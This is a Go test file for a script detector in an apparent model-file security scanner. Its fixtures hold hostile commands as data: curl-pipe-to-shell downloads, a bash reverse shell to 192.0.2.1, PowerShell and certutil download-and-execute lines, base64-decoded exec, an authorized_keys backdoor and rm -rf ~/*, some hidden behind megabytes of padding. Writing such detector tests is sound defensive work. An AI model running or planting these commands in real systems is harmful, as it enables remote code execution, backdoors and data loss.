package script_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/modelaudit/modelaudit/internal/detector/archive"
	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
	"github.com/modelaudit/modelaudit/internal/detector/script"
	"github.com/modelaudit/modelaudit/internal/format/zip/ziptest"
)

// notebook is one of cells of code.
func notebook(sources ...any) []byte {
	var cells []map[string]any
	for _, s := range sources {
		cells = append(cells, map[string]any{"cell_type": "code", "source": s, "metadata": map[string]any{}})
	}
	out, err := json.Marshal(map[string]any{"cells": cells, "nbformat": 4})
	if err != nil {
		return nil
	}
	return out
}

func TestDetector(t *testing.T) {
	const (
		hidden = "source-runs-hidden-code"
		onLoad = "source-runs-on-load"
		down   = "source-runs-download"
		plain  = "curl -s http://192.0.2.1/x | sh"
		tls    = "curl -fsSL https://example.org/install.sh | sh"
	)
	text := "no sentence has an end that could be missing"
	var cases []detectortest.Case
	add := func(name, file string, data []byte, want ...string) {
		if want == nil { // what is no model is not clean by itself
			cases = append(cases, detectortest.Case{Name: name, File: "m.zip", Data: ziptest.Files(file, string(data)), Heavy: len(data) > 1000})
			return
		}
		cases = append(cases, detectortest.Case{Name: name, File: file, Data: data, Want: want, AnyPrefix: text, Named: "sources are known by their names"})
	}
	add("Python that fetches code", "train.py", []byte("import os\nos.system('"+plain+"')\n"), hidden)
	add("Python that decodes code", "a.py", []byte("import base64\nexec(base64.b64decode('ZWNobw=='))\n"), hidden)
	add("shell", "run.sh", []byte("#!/bin/sh\n"+plain+"\n"), hidden)
	add("shell without a name", "post-checkout", []byte("#!/bin/sh\n"+plain+"\n"), hidden)
	add("an installer", "setup.sh", []byte(tls+"\n"), down)
	add("a shell for the network", "x.sh", []byte("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"), hidden)
	add("PowerShell", "x.ps1", []byte("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"), hidden)
	add("PowerShell in a batch file", "x.bat", []byte("@echo off\npowershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')\r\n"), hidden)
	add("a batch file", "x.bat", []byte("certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\nstart a.exe\r\n"), hidden)
	add("a cell for the shell", "a.ipynb", notebook("!"+plain), hidden)
	add("a cell of lines", "a.ipynb", notebook("1 + 1", []string{"import os\n", "%matplotlib inline\n", "os.system('" + plain + "')"}), hidden)
	add("a cell of bash", "a.ipynb", notebook("%%bash\n"+plain), hidden)
	add("a handler", "handler.py", []byte("import os\nos.system('echo poc')\n"), onLoad)
	add("a model of Triton", "model.py", []byte("import subprocess\nsubprocess.run(['id'])\nclass TritonPythonModel:\n    pass\n"), onLoad)

	add("Python that does much", "train.py", []byte("import os, subprocess\nos.system('echo poc')\nsubprocess.run(['git', 'status'])\nexec(open('v.py').read())\n"))
	add("a handler that starts programs when asked", "handler.py", []byte("import os\ndef f():\n    os.system('echo poc')\n"))
	add("a handler with a library", "handler.py", []byte("import ctypes\nctypes.CDLL('libcudart.so')\n"))
	add("a shell script", "run.sh", []byte("set -e\ncurl -o x.tgz https://example.org/x.tgz\ntar xf x.tgz\n"))
	add("a script that sets a machine up", "boot.sh", []byte("echo 'export A=1' >> ~/.bashrc\ncat key >> ~/.ssh/authorized_keys\ncurl -o /usr/bin/k https://example.org/k\nchmod +x /usr/bin/k\nrm -rf ~/*\n"))
	add("a notebook", "a.ipynb", notebook("!pip install x", "%cd x\nprint(1)"))
	add("no Python", "x.py", []byte("exec(((\n"))
	add("other text", "x.txt", []byte(plain))
	cases = append(cases, []detectortest.Case{
		{Name: "behind a picture of 3 MiB", File: "a.ipynb", Data: notebook("x = '"+strings.Repeat("QUJD", 3<<18)+"'", "!"+plain), Want: []string{hidden}, AnyPrefix: text, Named: "notebook", Heavy: true},
		{Name: "behind a table of 3 MiB", File: "a.py", Data: []byte("x = '" + strings.Repeat("QUJD", 3<<18) + "'\nimport os\nos.system('" + plain + "')\n"), Want: []string{hidden}, AnyPrefix: text, Named: "source", Heavy: true},
		{Name: "behind 3 MiB of comments", File: "a.sh", Data: []byte(strings.Repeat("# "+strings.Repeat("x", 1<<10)+"\n", 3<<10) + plain), Want: []string{hidden}, AnyPrefix: text, Heavy: true},
		{Name: "behind more commands than are followed", File: "a.sh", Data: []byte(strings.Repeat("curl x | wget y\n", 60_000) + plain), Unread: true, AnyPrefix: text, Named: "source", Heavy: true},
		{Name: "in an archive", File: "m.zip", Data: ziptest.Files("a/train.py", "import os\nos.system('"+plain+"')\n"), Want: []string{hidden}},
		{Name: "in an archive, an installer", File: "m.zip", Data: ziptest.Files("a/b.sh", tls), Want: []string{down}},
		{Name: "in an archive of TorchServe", File: "m.mar", Data: ziptest.Files("setup.sh", plain), Want: []string{hidden}},
		{Name: "Python in an archive of TorchServe, which is judged there", File: "m.mar", Data: ziptest.Files("handler.py", "import os\nos.system('echo poc')\n")},
		{Name: "in an archive, a handler", File: "m.zip", Data: ziptest.Files("handler.py", "import os\nos.system('echo poc')\n"), Want: []string{onLoad}},
	}...)
	detectortest.Run(t, script.Detector, cases, archive.Detector)
}
